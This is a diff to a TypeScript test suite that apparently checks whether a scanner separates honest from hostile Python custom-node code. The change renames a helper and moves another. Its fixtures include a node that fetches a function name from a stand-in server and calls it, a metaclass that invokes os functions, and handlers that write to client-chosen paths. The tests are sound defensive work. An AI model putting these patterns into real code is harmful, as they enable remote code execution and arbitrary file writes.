@@ -40,7 +40,7 @@ const MAKE =
 const TABLE =
   'import os\nclass Table(dict):\n    def __setitem__(self, key, value):\n        if hasattr(os, key): vars(os)[key](value)\nclass Meta(type):\n    @classmethod\n    def __prepare__(cls, name, bases): return Table()\n';
 /** A method of a core-node that calls what a specification names. */
-const inNode = (statement: string): string =>
+const callNamed = (statement: string): string =>
   `import importlib, json, urllib.request\nclass A:\n    def run(self):\n        ${statement}\n        return getattr(importlib.import_module(spec["m"]), spec["f"])(*spec["a"])\nNODE_CLASS_MAPPINGS = {"A": A}\n`;
 
 /** A method of a core-node with one statement. */
@@ -351,8 +351,8 @@ describe('the checks tell apart', () => {
     [
       'functions of a module that a file or a server names',
       {
-        honest: inNode('spec = json.load(open("a.json"))'),
-        hostile: inNode('spec = json.loads(urllib.request.urlopen("https://a.example").read())'),
+        honest: callNamed('spec = json.load(open("a.json"))'),
+        hostile: callNamed('spec = json.loads(urllib.request.urlopen("https://a.example").read())'),
       },
     ],
     [
@@ -380,9 +380,6 @@ describe('the checks tell apart', () => {
   });
 });
 
-const SAVE = (path: string): string =>
-  `${ROUTES}@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    open(${path}, "w").write(data["text"])\n`;
-
 describe('a request handler', () => {
   it.each([
     ['writes', 'pathlib.Path(data["path"]).write_text(data["text"])', 'pathlib.Path("a.txt").write_text(data["text"])'],
@@ -396,6 +393,9 @@ describe('a request handler', () => {
     expect([await isHeld(handler(hostile)), await isHeld(handler(honest))]).toEqual([true, false]);
   });
 });
+
+const SAVE = (path: string): string =>
+  `${ROUTES}@routes.post("/a")\nasync def a(request):\n    data = await request.json()\n    open(${path}, "w").write(data["text"])\n`;
 
 describe('a request handler that writes', () => {
   it.each([
